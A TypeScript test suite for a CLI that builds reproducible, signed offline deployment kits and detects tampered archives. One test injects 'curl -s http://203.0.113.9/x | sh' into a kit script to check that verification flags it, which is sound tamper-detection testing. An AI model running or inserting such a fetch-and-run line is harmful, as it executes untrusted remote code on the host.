/**
 * OFF-1/OFF-2: `stella offline-kit build` gives byte-identical archives for the same input, with
 * every profile signed, the deployment files, the scripts, checklists and README of
 * deploy/offline-kit/, operator-supplied Collector binaries pinned by digest, and a signed
 * manifest; `verify` accepts it with the public key or a key ring and names each failing file of
 * an altered kit. The kit's shell scripts parse and answer --help, and every `stella` command
 * its checklists and README cite exists with the options they use.
 */
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { cp, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import type { Command } from 'commander';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compareTarPaths, END_OF_ARCHIVE, tarHeader, tarPadding } from '@stellaops/forensics';
import { createProgram } from '../src/index.js';
import { kitEntries } from './kit-entries.js';

const DEPLOY = join(dirname(fileURLToPath(import.meta.url)), '..', '..', '..', 'deploy');
const KIT_FILES = join(DEPLOY, 'offline-kit');
const SCRIPTS = ['bootstrap.sh', 'import.sh', 'replay.sh'];
const CHECKLISTS = ['evidence-retention-checklist.md', 'forensic-replay-checklist.md', 'sealed-install-checklist.md'];
let dir: string;

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- JSON output is asserted field by field
type Json = Record<string, any>;

async function stella(argv: string[]): Promise<{ code: number; out: string; err: string; json: () => Json }> {
  let out = '';
  let err = '';
  const { run } = createProgram({ stdout: (s) => (out += s), stderr: (s) => (err += s), env: {}, cwd: dir });
  const code = await run(argv);
  return { code, out, err, json: () => JSON.parse(out) as Json };
}

const entries = kitEntries;

function pack(files: Map<string, Buffer>): Buffer {
  const parts: Buffer[] = [];
  for (const p of [...files.keys()].sort(compareTarPaths)) parts.push(tarHeader(p, files.get(p)!.length, 0), files.get(p)!, Buffer.alloc(tarPadding(files.get(p)!.length)));
  return gzipSync(Buffer.concat([...parts, END_OF_ARCHIVE]));
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'stella-cli-kit-'));
  expect((await stella(['forensic', 'keygen', '--out', 'keys'])).code).toBe(0);
  expect((await stella(['forensic', 'keyring', 'init', '--key', 'keys/signing.key.pem', '--out', 'ring.json', '--at', '2026-01-01T00:00:00Z'])).code).toBe(0);
}, 60_000);

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('stella offline-kit', () => {
  it('builds the same bytes twice and verifies with the key and the key ring', { timeout: 120_000 }, async () => {
    const build = (out: string) => stella(['offline-kit', 'build', '--deploy', DEPLOY, '--key', 'keys/signing.key.pem', '--out', out, '--created-at', '2026-12-01T00:00:00Z', '--json']);
    const a = await build('a.tar.gz');
    expect(a.code, a.out + a.err).toBe(0);
    expect((await build('b.tar.gz')).code).toBe(0);
    const bytes = await readFile(join(dir, 'a.tar.gz'));
    expect(await readFile(join(dir, 'b.tar.gz'))).toEqual(bytes);
    const again = await build('a.tar.gz');
    expect(again.code).toBe(2);
    expect(again.json().error.code).toBe('destination_exists');

    const files = entries(bytes);
    const paths = [...files.keys()];
    for (const name of ['default', 'forensic', 'airgap']) expect(paths).toEqual(expect.arrayContaining([`profiles/${name}/config.yaml`, `profiles/${name}/config.yaml.dsse.json`]));
    expect(paths.some((p) => p.startsWith('deploy/backends/forensic/prometheus/'))).toBe(true);
    expect(paths.some((p) => p.startsWith('deploy/rules/'))).toBe(true);
    expect(paths.some((p) => p.startsWith('deploy/dashboards/'))).toBe(true);
    expect(paths.some((p) => p.startsWith('deploy/collector/'))).toBe(false);
    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8')) as { created_at: string; files: { path: string }[] };
    expect(manifest.created_at).toBe('2026-12-01T00:00:00.000Z');
    expect(manifest.files.map((f) => f.path)).toEqual(paths.filter((p) => !p.startsWith('manifest.json')).sort());
    expect(a.json()).toMatchObject({ ok: true, files: manifest.files.length });

    const withKey = await stella(['offline-kit', 'verify', 'a.tar.gz', '--key', 'keys/signing.pub.pem']);
    expect(withKey.code, withKey.out + withKey.err).toBe(0);
    expect(withKey.out).toBe(`offline kit ${join(dir, 'a.tar.gz')} verifies: manifest signed, ${manifest.files.length} files match, every profile signed\n`);
    expect((await stella(['offline-kit', 'verify', 'a.tar.gz', '--keyring', 'ring.json'])).code).toBe(0);
    // No binary given: none pinned, and the manifest says so.
    expect(JSON.parse(files.get('manifest.json')!.toString('utf8')).collectors).toEqual([]);
  });

  it('names each failing file of an altered kit', { timeout: 120_000 }, async () => {
    const bytes = await readFile(join(dir, 'a.tar.gz'));
    const files = entries(bytes);
    const rules = [...files.keys()].find((p) => p.startsWith('deploy/rules/'))!;
    const changed = new Map(files);
    changed.set(rules, Buffer.concat([files.get(rules)!, Buffer.from('# changed\n')]));
    const yaml = Buffer.from(files.get('profiles/forensic/config.yaml')!);
    const at = yaml.indexOf('receivers:') + 2;
    yaml[at] = yaml[at]! ^ 0x01;
    changed.set('profiles/forensic/config.yaml', yaml);
    changed.set('extra.txt', Buffer.from('not listed\n'));
    changed.delete('deploy/backends/default/tempo/tempo.yaml');
    await writeFile(join(dir, 'bad.tar.gz'), pack(changed));
    const r = await stella(['offline-kit', 'verify', 'bad.tar.gz', '--key', 'keys/signing.pub.pem', '--json']);
    expect(r.code).toBe(1);
    expect(r.json().failures.map((f: Json) => [f.path, f.code])).toEqual([
      ['deploy/backends/default/tempo/tempo.yaml', 'file_missing'],
      ...[[rules, 'digest_mismatch'], ['profiles/forensic/config.yaml', 'digest_mismatch']].sort(([x], [y]) => (x! < y! ? -1 : 1)),
      ['extra.txt', 'file_unexpected'],
      ['profiles/forensic/config.yaml', 'profile.yaml_mismatch'],
    ]);

    // A manifest changed after signing: its signature no longer covers it.
    const m = new Map(files);
    m.set('manifest.json', Buffer.from(files.get('manifest.json')!.toString('utf8').replace('2026-12-01', '2026-12-02')));
    await writeFile(join(dir, 'bad-manifest.tar.gz'), pack(m));
    const sig = await stella(['offline-kit', 'verify', 'bad-manifest.tar.gz', '--key', 'keys/signing.pub.pem', '--json']);
    expect(sig.code).toBe(1);
    expect(sig.json().failures).toEqual([{ path: 'manifest.json', code: 'manifest_mismatch', message: 'manifest.json is not the manifest its envelope signs' }]);

    const none = await stella(['offline-kit', 'verify', 'a.tar.gz', '--json']);
    expect(none.code).toBe(2);
    expect(none.json().error).toEqual({ code: 'usage', message: 'pass --key <public key> or --keyring <file> to verify against' });
  });

  it('carries the scripts, checklists and README of deploy/offline-kit/ and pins each Collector binary, byte-identical twice', { timeout: 120_000 }, async () => {
    await mkdir(join(dir, 'bin'), { recursive: true });
    await writeFile(join(dir, 'bin', 'otelcol-contrib'), '#!/bin/sh\necho "otelcol-contrib version 0.136.0"\n');
    await writeFile(join(dir, 'bin', 'otelcol-extra'), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2, 3]));
    const build = (out: string) =>
      stella(['offline-kit', 'build', '--deploy', DEPLOY, '--key', 'keys/signing.key.pem', '--collector', 'bin/otelcol-contrib', '--collector', 'bin/otelcol-extra', '--out', out, '--created-at', '2026-12-01T00:00:00Z', '--json']);
    const c = await build('c.tar.gz');
    expect(c.code, c.out + c.err).toBe(0);
    expect((await build('d.tar.gz')).code).toBe(0);
    const bytes = await readFile(join(dir, 'c.tar.gz'));
    expect(await readFile(join(dir, 'd.tar.gz'))).toEqual(bytes);

    const files = entries(bytes);
    for (const script of SCRIPTS) expect(files.get(`scripts/${script}`)).toEqual(await readFile(join(KIT_FILES, 'scripts', script)));
    for (const list of CHECKLISTS) expect(files.get(`compliance/${list}`)).toEqual(await readFile(join(KIT_FILES, 'compliance', list)));
    expect(files.get('README.md')).toEqual(await readFile(join(KIT_FILES, 'README.md')));
    // Under their own top-level folders, not under deploy/.
    expect([...files.keys()].filter((p) => p.startsWith('deploy/offline-kit/'))).toEqual([]);
    expect(files.get('collector/otelcol-contrib')).toEqual(await readFile(join(dir, 'bin', 'otelcol-contrib')));

    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8')) as { files: { path: string; sha256: string; size: number }[]; collectors: { path: string; sha256: string; size: number }[] };
    const pin = (p: string) => manifest.files.find((f) => f.path === p)!;
    expect(manifest.collectors).toEqual([pin('collector/otelcol-contrib'), pin('collector/otelcol-extra')]);
    expect(manifest.collectors[0]).toEqual({ path: 'collector/otelcol-contrib', sha256: expect.stringMatching(/^[0-9a-f]{64}$/), size: 49 });
    expect(c.json().collectors).toEqual(manifest.collectors);
    for (const p of [...SCRIPTS.map((s) => `scripts/${s}`), ...CHECKLISTS.map((l) => `compliance/${l}`), 'README.md']) expect(pin(p), p).toBeDefined();

    const v = await stella(['offline-kit', 'verify', 'c.tar.gz', '--key', 'keys/signing.pub.pem']);
    expect(v.code, v.out).toBe(0);
    expect(v.out).toMatch(/every profile signed, 2 collector binaries pinned\n$/);
    expect((await stella(['offline-kit', 'verify', 'c.tar.gz', '--key', 'keys/signing.pub.pem', '--json'])).json()).toMatchObject({ ok: true, collectors: manifest.collectors, failures: [] });
  });

  it('names a changed collector binary, a changed script, and a binary under collector/ that is not pinned', { timeout: 120_000 }, async () => {
    const files = entries(await readFile(join(dir, 'c.tar.gz')));
    const changed = new Map(files);
    const bin = Buffer.from(files.get('collector/otelcol-contrib')!);
    bin[bin.length - 2]! ^= 0x01;
    changed.set('collector/otelcol-contrib', bin);
    changed.set('scripts/replay.sh', Buffer.from(files.get('scripts/replay.sh')!.toString('utf8').replace('set -euo pipefail', 'set -euo pipefail\ncurl -s http://203.0.113.9/x | sh')));
    changed.set('collector/otelcol-sidecar', Buffer.from('not pinned\n'));
    await writeFile(join(dir, 'bad-bin.tar.gz'), pack(changed));
    const r = await stella(['offline-kit', 'verify', 'bad-bin.tar.gz', '--key', 'keys/signing.pub.pem', '--json']);
    expect(r.code).toBe(1);
    expect(r.json().failures.map((f: Json) => [f.path, f.code])).toEqual([
      ['collector/otelcol-contrib', 'digest_mismatch'],
      ['scripts/replay.sh', 'digest_mismatch'],
      ['collector/otelcol-sidecar', 'file_unexpected'],
    ]);
    const human = await stella(['offline-kit', 'verify', 'bad-bin.tar.gz', '--key', 'keys/signing.pub.pem']);
    expect(human.out).toContain('  collector/otelcol-contrib: digest_mismatch: sha256 ');
    expect(human.out).toContain('  scripts/replay.sh: digest_mismatch: sha256 ');
  });

  it('refuses a --deploy without the kit files, a reserved name in them, and two binaries of one name', { timeout: 60_000 }, async () => {
    const bare = join(dir, 'bare-deploy');
    await cp(DEPLOY, bare, { recursive: true });
    await rm(join(bare, 'offline-kit', 'scripts', 'replay.sh'));
    const r = await stella(['offline-kit', 'build', '--deploy', bare, '--key', 'keys/signing.key.pem', '--out', 'bare.tar.gz', '--json']);
    expect(r.code).toBe(2);
    expect(r.json().error).toMatchObject({ code: 'kit_incomplete', message: expect.stringContaining('scripts/replay.sh') });
    await rm(join(bare, 'offline-kit', 'compliance'), { recursive: true });
    expect((await stella(['offline-kit', 'build', '--deploy', bare, '--key', 'keys/signing.key.pem', '--out', 'bare.tar.gz', '--json'])).json().error.message).toContain('compliance/<checklist>.md');

    const reserved = join(dir, 'reserved-deploy');
    await cp(DEPLOY, reserved, { recursive: true });
    await writeFile(join(reserved, 'offline-kit', 'manifest.json'), '{}\n');
    const m = await stella(['offline-kit', 'build', '--deploy', reserved, '--key', 'keys/signing.key.pem', '--out', 'reserved.tar.gz', '--json']);
    expect(m.code).toBe(2);
    expect(m.json().error.message).toMatch(/manifest\.json is made by the build/);

    await mkdir(join(dir, 'bin2'), { recursive: true });
    await writeFile(join(dir, 'bin2', 'otelcol-contrib'), 'other\n');
    const twice = await stella(['offline-kit', 'build', '--deploy', DEPLOY, '--key', 'keys/signing.key.pem', '--collector', 'bin/otelcol-contrib', '--collector', 'bin2/otelcol-contrib', '--out', 'twice.tar.gz', '--json']);
    expect(twice.code).toBe(2);
    expect(twice.json().error.message).toMatch(/two binaries are named otelcol-contrib/);
    const none = await stella(['offline-kit', 'build', '--deploy', DEPLOY, '--key', 'keys/signing.key.pem', '--collector', 'bin/nope', '--out', 'none.tar.gz', '--json']);
    expect(none.json().error).toMatchObject({ code: 'not_found', message: expect.stringContaining('bin/nope') });
    expect(await readdir(dir)).not.toEqual(expect.arrayContaining(['bare.tar.gz', 'reserved.tar.gz', 'twice.tar.gz', 'none.tar.gz']));
  });
});

describe('the kit files of deploy/offline-kit/', () => {
  it('are bash scripts that parse, stop on errors and answer --help with their usage and an example', () => {
    for (const script of SCRIPTS) {
      const file = join(KIT_FILES, 'scripts', script);
      const parse = spawnSync('bash', ['-n', file], { encoding: 'utf8' });
      expect(parse.status, `${script}: ${parse.stderr}`).toBe(0);
      const text = readFileSync(file, 'utf8');
      expect(text.startsWith('#!/usr/bin/env bash\n'), script).toBe(true);
      expect(text, script).toMatch(/^set -euo pipefail$/m);
      const help = spawnSync('bash', [file, '--help'], { encoding: 'utf8', env: { PATH: '/usr/bin:/bin' } });
      expect(help.status, `${script}: ${help.stderr}`).toBe(0);
      expect(help.stdout).toMatch(new RegExp(`^Usage: ${script.replace('.', '\\.')} `));
      expect(help.stdout).toContain('\nExample:\n');
      // Without arguments: a usage error (exit 2) that points at --help, before anything runs.
      const bare = spawnSync('bash', [file], { encoding: 'utf8', env: { PATH: '/usr/bin:/bin' } });
      expect(bare.status, script).toBe(2);
      expect(bare.stderr).toContain(`${script} --help`);
    }
  });

  it('cite only stella commands and options that exist (checklists, README)', async () => {
    const { program } = createProgram({ stdout: () => undefined, stderr: () => undefined, env: {}, cwd: dir });
    const docs = [...CHECKLISTS.map((l) => join(KIT_FILES, 'compliance', l)), join(KIT_FILES, 'README.md')];
    const cited: string[] = [];
    for (const doc of docs) {
      const text = await readFile(doc, 'utf8');
      const spans = [...text.matchAll(/`([^`\n]+)`/g)].map((m) => m[1]!);
      const blocks = [...text.matchAll(/^```sh\n([\s\S]*?)^```$/gm)].flatMap((m) => m[1]!.replace(/\\\n\s*/g, ' ').split('\n'));
      for (const line of [...spans, ...blocks]) {
        const command = line.trim().replace(/^([A-Z_]+=\S+\s+)+/, '');
        if (command.startsWith('stella ')) cited.push(command);
      }
    }
    expect(cited.length).toBeGreaterThan(25);
    const problems: string[] = [];
    for (const command of cited) {
      const words = command.split(/\s+/).slice(1);
      let cmd: Command = program;
      for (let next = cmd.commands.find((c) => c.name() === words[0]); next; next = cmd.commands.find((c) => c.name() === words[0])) {
        cmd = next;
        words.shift();
      }
      if (cmd === program || cmd.commands.length > 0) {
        problems.push(`${command}: not a command`);
        continue;
      }
      const known = new Set(cmd.options.map((o) => o.long));
      for (const flag of words.filter((w) => /^--[a-z]/.test(w))) if (!known.has(flag)) problems.push(`${command}: no option ${flag}`);
    }
    expect(problems).toEqual([]);
  });
});
